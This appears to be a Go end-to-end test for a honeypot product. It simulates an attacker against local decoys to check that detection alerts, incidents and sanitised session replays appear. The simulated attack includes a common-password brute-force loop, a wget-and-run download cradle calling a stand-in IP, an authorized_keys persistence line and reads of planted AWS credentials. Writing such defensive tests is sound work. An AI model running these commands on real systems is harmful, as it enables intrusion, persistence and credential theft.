// Package e2e attacks the built binary with the clients attackers use and
// looks at what an analyst would see.
package e2e

import (
	"bytes"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"honeyguide"
	"honeyguide/test/rig"
)

// fast switches off the persona's delays, which are tested where they live.
var fast = []string{"sensors.ssh.delay=0s", "sensors.telnet.delay=0s"}

// ssh runs the OpenSSH client with a password and returns what it printed.
func ssh(t *testing.T, addr, user, password, stdin string, args ...string) (stdout string, status int) {
	t.Helper()
	rig.Need(t, "ssh")
	host, port, err := net.SplitHostPort(addr)
	if err != nil {
		t.Fatal(err)
	}
	ask := filepath.Join(t.TempDir(), "ask")
	if err := os.WriteFile(ask, []byte("#!/bin/sh\necho \"$HG_PASSWORD\"\n"), 0o700); err != nil {
		t.Fatal(err)
	}
	opts := []string{
		"-p", port, "-l", user, "-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null", "-o", "LogLevel=ERROR",
		"-o", "NumberOfPasswordPrompts=1", "-o", "PubkeyAuthentication=no", "-o", "ConnectTimeout=120", host,
	}
	cmd := exec.Command("setsid", append(append([]string{"-w", "ssh"}, opts...), args...)...)
	if stdin == "tty" {
		cmd = exec.Command("setsid", append(append([]string{"-w", "ssh", "-tt"}, opts...), args...)...)
		stdin = ""
	}
	cmd.Env = append(os.Environ(), "SSH_ASKPASS="+ask, "SSH_ASKPASS_REQUIRE=force", "DISPLAY=:0", "HG_PASSWORD="+password, "HOME="+t.TempDir())
	cmd.Stdin = strings.NewReader(stdin)
	out, err := cmd.Output()
	if _, isExit := err.(*exec.ExitError); err != nil && !isExit {
		t.Fatal(err)
	}
	return string(out), cmd.ProcessState.ExitCode()
}

// breakIn guesses until the decoy accepts a pair, as a bot does.
func breakIn(t *testing.T, addr string) (user, password string) {
	t.Helper()
	for range 4 {
		for _, p := range []string{"wrong-one", "123456", "admin", "password", "root", "root123", "toor", "1234", "qwerty"} {
			if out, status := ssh(t, addr, "root", p, "", "echo in-$((40+2))"); status == 0 && strings.Contains(out, "in-42") {
				return "root", p
			}
		}
	}
	t.Fatal("no common password was accepted")
	return "", ""
}

// TestOneAttack is the product's promise in one test: from the first packet to
// a planned response.
func TestOneAttack(t *testing.T) {
	if testing.Short() {
		t.Skip("runs the whole product; -short leaves it out")
	}
	rig.Need(t, "telnet")
	rig.Need(t, "curl")
	core := rig.Start(t, t.TempDir(), fast...)
	sshAddr, httpAddr, telnetAddr := core.Sensor("ssh"), core.Sensor("http"), core.Sensor("telnet")

	// A scanner, with curl.
	page := curl(t, "http://"+httpAddr+"/")
	if !strings.Contains(strings.ToLower(page), "<html") {
		t.Errorf("index page: %.200q", page)
	}
	if head := curl(t, "-I", "http://"+httpAddr+"/nothing-here"); !strings.Contains(head, "404") || !strings.Contains(head, "Server: nginx") {
		t.Errorf("404 page: %q", head)
	}
	curl(t, "-d", "username=admin&password=letmein", "http://"+httpAddr+"/login")

	// A bot, with OpenSSH.
	user, password := breakIn(t, sshAddr)
	for _, line := range []string{
		"uname -a; id; cat /proc/cpuinfo | grep name | wc -l",
		"cd /tmp && wget http://198.51.100.23/x.sh; chmod +x x.sh; ./x.sh",
		"mkdir -p ~/.ssh && echo 'ssh-ed25519 AAAAC3Nz e2e' >> ~/.ssh/authorized_keys",
	} {
		ssh(t, sshAddr, user, password, "", line)
	}
	if out, _ := ssh(t, sshAddr, user, password, "", "cat ~/.ssh/authorized_keys"); !strings.Contains(out, "AAAAC3Nz e2e") {
		t.Errorf("what was written is not there at the next login: %q", out)
	}
	// A person at a terminal; a title escape in what they type must not reach ours.
	terminal(t, sshAddr, user, password, "echo interactive-$((6*7))", "printf '\\033]0;pwned\\007'", "exit")

	// The bait is read over SSH and used at the web decoy.
	history, _ := ssh(t, sshAddr, user, password, "", "cat ~/.aws/credentials ~/.bash_history")
	if !regexp.MustCompile(`AKIA[67][A-Z2-7]{15}`).MatchString(history) {
		t.Errorf("no AWS key was planted: %q", history)
	}
	m := regexp.MustCompile(`curl -u ([^\s:]+):(\S+) http`).FindStringSubmatch(history)
	if m == nil {
		t.Fatalf("no password in the history: %q", history)
	}
	curl(t, "--data-urlencode", "username="+m[1], "--data-urlencode", "password="+m[2], "http://"+httpAddr+"/login")

	// Telnet, with the client.
	telnet(t, telnetAddr, "root", password)

	alerts := awaitAlerts(t, core, "brute_force", "success_after_failures", "recon_commands", "download_cradle", "persistence", "token_exposed", "token_used", "sigma:linux_authorized_keys", "sigma:linux_foothold")
	used := alerts[slices.IndexFunc(alerts, func(a honeyguide.Alert) bool { return strings.Contains(a.RuleID, "token_used") })]
	if used.Severity != honeyguide.SeverityCritical || len(used.Reasons) == 0 || len(used.Evidence) == 0 {
		t.Errorf("the token's use: severity %v, %d reasons, %d evidence", used.Severity, len(used.Reasons), len(used.Evidence))
	}
	for _, a := range alerts {
		sum := 0.0
		for _, r := range a.Reasons {
			sum += r.Weight
		}
		if want := min(max(sum, 0), 100); a.Score < want-0.01 || a.Score > want+0.01 {
			t.Errorf("%s: score %v is not the sum of its reasons %v", a.RuleID, a.Score, sum)
		}
		if len(a.Attacks) == 0 && a.Severity >= honeyguide.SeverityMedium {
			t.Errorf("%s has no ATT&CK technique", a.RuleID)
		}
	}

	incidents, err := rig.List[honeyguide.Incident](core, "/api/v1/incidents")
	if err != nil {
		t.Fatal(err)
	}
	if len(incidents) != 1 || incidents[0].Severity != honeyguide.SeverityCritical || incidents[0].AlertCount < 6 {
		t.Fatalf("want one critical incident of one attacker, got %d: %+v", len(incidents), incidents)
	}
	inCLI(t, core, incidents[0])
	recordings(t, core)
	wrongKeys(t, core)
	if log := core.Output(); strings.ContainsAny(log, "\x1b\x07") {
		t.Errorf("attacker bytes reached the terminal raw")
	}
}

func curl(t *testing.T, args ...string) string {
	t.Helper()
	out, err := exec.Command("curl", append([]string{"-s", "-S", "--max-time", "20"}, args...)...).CombinedOutput()
	if err != nil {
		t.Errorf("curl %q: %v: %s", args, err, out)
	}
	return string(out)
}

// terminal types lines into a session with a pty, waiting for each prompt.
func terminal(t *testing.T, addr, user, password string, lines ...string) {
	t.Helper()
	host, port, _ := net.SplitHostPort(addr)
	ask := filepath.Join(t.TempDir(), "ask")
	if err := os.WriteFile(ask, []byte("#!/bin/sh\necho \"$HG_PASSWORD\"\n"), 0o700); err != nil {
		t.Fatal(err)
	}
	cmd := exec.Command("setsid", "-w", "ssh", "-tt", "-p", port, "-l", user, "-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null",
		"-o", "LogLevel=ERROR", "-o", "PubkeyAuthentication=no", host)
	cmd.Env = append(os.Environ(), "SSH_ASKPASS="+ask, "SSH_ASKPASS_REQUIRE=force", "DISPLAY=:0", "HG_PASSWORD="+password, "TERM=xterm-256color")
	in, err := cmd.StdinPipe()
	if err != nil {
		t.Fatal(err)
	}
	var out syncBuffer
	cmd.Stdout = &out
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	for i, line := range lines {
		rig.Eventually(t, time.Minute, fmt.Sprintf("prompt %d in %q", i+1, out.String()), func() bool { return strings.Count(out.String(), "# ") > i })
		if _, err := io.WriteString(in, line+"\r"); err != nil {
			t.Fatal(err)
		}
	}
	_ = cmd.Wait()
	if !strings.Contains(out.String(), "interactive-42") || !strings.Contains(out.String(), "logout") {
		t.Errorf("terminal session: %q", out.String())
	}
}

// telnet logs in with the real client and leaves.
func telnet(t *testing.T, addr, user, password string) {
	t.Helper()
	host, port, _ := net.SplitHostPort(addr)
	cmd := exec.Command("telnet", host, port)
	in, err := cmd.StdinPipe()
	if err != nil {
		t.Fatal(err)
	}
	var out syncBuffer
	cmd.Stdout, cmd.Stderr = &out, &out
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	steps := []struct{ wait, send string }{{"login: ", user}, {"assword: ", password}, {"# ", "echo telnet-$((6*7))"}, {"telnet-42", "exit"}}
	for _, s := range steps {
		rig.Eventually(t, time.Minute, s.wait+" in telnet", func() bool { return strings.Contains(out.String(), s.wait) })
		if _, err := io.WriteString(in, s.send+"\n"); err != nil {
			t.Fatal(err)
		}
	}
	_ = cmd.Wait()
}

// awaitAlerts waits until every rule has raised an alert.
func awaitAlerts(t *testing.T, core *rig.Core, rules ...string) []honeyguide.Alert {
	t.Helper()
	var alerts []honeyguide.Alert
	missing := func() []string {
		var err error
		if alerts, err = rig.List[honeyguide.Alert](core, "/api/v1/alerts"); err != nil {
			return []string{err.Error()}
		}
		return slices.DeleteFunc(slices.Clone(rules), func(rule string) bool {
			return slices.ContainsFunc(alerts, func(a honeyguide.Alert) bool { return strings.Contains(a.RuleID, rule) })
		})
	}
	deadline := time.Now().Add(time.Minute)
	for len(missing()) > 0 {
		if time.Now().After(deadline) {
			var have []string
			for _, a := range alerts {
				have = append(have, a.RuleID)
			}
			t.Fatalf("no alert of %v; there are %v\n%s", missing(), have, core.Output())
		}
		time.Sleep(50 * time.Millisecond)
	}
	return alerts
}

// inCLI finds the same through the command line.
func inCLI(t *testing.T, core *rig.Core, want honeyguide.Incident) {
	t.Helper()
	out, errs, status := rig.CLI(t, core.Data, nil, "incidents", "list", "-o", "json")
	var page rig.Page[honeyguide.Incident]
	if err := json.Unmarshal([]byte(out), &page); status != 0 || err != nil || len(page.Items) != 1 || page.Items[0].ID != want.ID {
		t.Errorf("incidents list: status %d, %v: %s%s", status, err, out, errs)
	}
	out, errs, status = rig.CLI(t, core.Data, nil, "incidents", "show", want.Short, "-o", "table")
	if status != 0 || !strings.Contains(out, "block_ip") || !strings.Contains(out, "127.0.0.1") {
		t.Errorf("incidents show: status %d: %s%s", status, out, errs)
	}
	out, errs, status = rig.CLI(t, core.Data, nil, "blocks", "list", "-o", "json")
	var blocks rig.Page[honeyguide.Block]
	if err := json.Unmarshal([]byte(out), &blocks); status != 0 || err != nil || len(blocks.Items) != 1 ||
		blocks.Items[0].State != honeyguide.PlanPlanned || blocks.Items[0].ExpiresAt.IsZero() {
		t.Errorf("blocks list: status %d, %v: %s%s", status, err, out, errs)
	}
	out, errs, status = rig.CLI(t, core.Data, nil, "tokens", "list", "-o", "yaml")
	if status != 0 || !regexp.MustCompile(`uses: [1-9]`).MatchString(out) {
		t.Errorf("tokens list: status %d: %s%s", status, out, errs)
	}
	if _, errs, status = rig.CLI(t, core.Data, nil, "alerts", "show", "A-999999"); status != 4 {
		t.Errorf("a missing alert: status %d, want 4: %s", status, errs)
	}
}

// recordings replays what was typed, and nothing hostile comes out.
func recordings(t *testing.T, core *rig.Core) {
	t.Helper()
	sessions, err := rig.List[honeyguide.Session](core, "/api/v1/sessions")
	if err != nil {
		t.Fatal(err)
	}
	found := false
	for _, s := range sessions {
		if s.Recording == "" {
			continue
		}
		out, errs, status := rig.CLI(t, core.Data, nil, "session", "replay", s.ID, "--speed", "0")
		if status != 0 {
			t.Errorf("replay %s: status %d: %s", s.ID, status, errs)
		}
		if strings.Contains(out, "\x1b]") || strings.Contains(out, "\x07") {
			t.Errorf("the replay of %s carries a title or bell: %q", s.ID, out)
		}
		found = found || strings.Contains(out, "interactive-42")
		var cast string
		if err := core.Get("/api/v1/sessions/"+s.ID+"/recording", &cast); err != nil {
			t.Error(err)
		}
		header := map[string]any{}
		if err := json.Unmarshal([]byte(rig.Lines(cast)[0]), &header); err != nil || header["version"] != float64(3) {
			t.Errorf("%s is no asciicast v3: %v %v", s.ID, header, err)
		}
	}
	if !found {
		t.Errorf("no recording holds the terminal session (%d sessions)", len(sessions))
	}
}

// wrongKeys asks over TLS without, with a wrong, and with the right key.
func wrongKeys(t *testing.T, core *rig.Core) {
	t.Helper()
	m := regexp.MustCompile(`https://(localhost:\d+)`).FindStringSubmatch(core.Output())
	if m == nil {
		t.Fatalf("the API's address is not printed: %s", core.Output())
	}
	url := m[0] + "/api/v1/alerts"
	for header, want := range map[string]string{"X-Nothing: 1": "401", "Authorization: Bearer hg_wrong": "401", "Authorization: Bearer " + rig.Key: "200"} {
		if got := curl(t, "-k", "-o", "/dev/null", "-w", "%{http_code}", "-H", header, url); got != want {
			t.Errorf("%.24s...: %s, want %s", header, got, want)
		}
	}
}

// syncBuffer is a bytes.Buffer for two goroutines.
type syncBuffer struct {
	mu  sync.Mutex
	buf bytes.Buffer
}

func (b *syncBuffer) Write(p []byte) (int, error) {
	b.mu.Lock()
	defer b.mu.Unlock()
	return b.buf.Write(p)
}

func (b *syncBuffer) String() string {
	b.mu.Lock()
	defer b.mu.Unlock()
	return b.buf.String()
}
